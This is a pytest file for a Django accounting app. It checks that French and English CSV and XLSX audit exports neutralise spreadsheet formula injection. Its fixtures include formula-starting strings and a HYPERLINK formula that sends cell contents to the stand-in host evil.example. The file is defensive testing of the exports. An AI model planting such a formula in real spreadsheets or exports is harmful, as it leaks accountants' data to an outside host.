"""The audit exports an accountant opens in Excel: readable columns, a BOM and ";" in French,
and no cell a spreadsheet would run as a formula (OWASP CSV injection), in CSV and in XLSX."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from matching.models import Band
from matching.services import record_propose
from review.exports import FORMULA_STARTS, neutralised
from tests.review.pages import url

pytestmark = pytest.mark.django_db

HOSTILE = ["=1+1", "+33 6 12", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]
LEAK = '=HYPERLINK("http://evil.example/?leak="&B2,"click")'


def _hostile_workspace(books, people):
    """Records whose vendor names start with = + - @, rejected with notes that do too."""
    books.invoice()
    for i, start in enumerate(HOSTILE[:4]):
        bill = books.bill(
            amount=f"{1284 + i}.00",
            day="2025-01-17",
            vendor_id=f"9{i}",
            vendor_name=f"{start} Vendor",
            doc=f"{start}F-{i}",
        )
        assert record_propose(record=bill).band in (Band.REVIEW, Band.REFUSED)
        note = LEAK if i == 0 else HOSTILE[(i + 4) % len(HOSTILE)] + " note"
        response = people["owner"].post(url(books, "reject", record_id=bill.pk), {"note": note})
        assert response.status_code == 302


@pytest.mark.parametrize("value", [*HOSTILE, LEAK])
def test_a_cell_that_starts_like_a_formula_is_neutralised(value):
    assert neutralised(value).startswith("'")
    assert neutralised("Algolia SAS") == "Algolia SAS"


def test_the_french_csv_has_a_bom_semicolons_and_no_formula_cell(books, people):
    _hostile_workspace(books, people)
    response = people["viewer"].get(url(books, "audit_csv"), HTTP_ACCEPT_LANGUAGE="fr-FR")
    raw = b"".join(response.streaming_content)
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == [
        "Date",
        "Pièce",
        "Fournisseur",
        "Montant",
        "Devise",
        "Numéro de facture",
        "Décision ou événement",
        "Confiance (%)",
        "Par",
        "Note",
    ]
    rejected = [r for r in rows[1:] if r[6] == "Rejeté"]
    assert len(rejected) == 4
    for row in rows[1:]:
        assert len(row) == 10
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), row
    first = next(r for r in rejected if r[9].startswith("'=HYPERLINK"))
    assert first[1] == "Facture =1+1F-0" and first[2] == "'=1+1 Vendor"
    assert first[3] == "1284,00" and first[4] == "EUR" and first[5] == "'=1+1F-0"
    assert first[0][2] == "/"  # 17/01/2025-style French date, not ISO
    assert "{" not in raw.decode("utf-8-sig")  # no raw JSON anywhere


def test_the_english_csv_is_comma_separated_with_the_same_rows(books, people):
    _hostile_workspace(books, people)
    response = people["viewer"].get(url(books, "audit_csv"), HTTP_ACCEPT_LANGUAGE="en-GB")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:4] == ["Date", "Record", "Vendor", "Amount"]
    rejected = [r for r in rows[1:] if r[6] == "Rejected"]
    assert {r[2] for r in rejected} == {"'" + s + " Vendor" for s in HOSTILE[:4]}
    assert {r[3] for r in rejected} == {"1284.00", "1285.00", "1286.00", "1287.00"}
    assert all(r[1].startswith("Bill ") for r in rejected)


def test_the_xlsx_stores_every_text_as_text(books, people):
    _hostile_workspace(books, people)
    response = people["viewer"].get(url(books, "audit_xlsx"), HTTP_ACCEPT_LANGUAGE="fr-FR")
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    assert [c.value for c in rows[0]][:3] == ["Date", "Pièce", "Fournisseur"]
    vendors = set()
    for row in rows[1:]:
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert cell.data_type == "s"
        if row[6].value == "Rejeté":
            vendors.add(row[2].value)
            assert row[3].value == pytest.approx(float(row[3].value)) and row[3].value >= 1284
    assert vendors == {s + " Vendor" for s in HOSTILE[:4]}
    notes = {row[9].value for row in rows[1:]}
    assert LEAK in notes
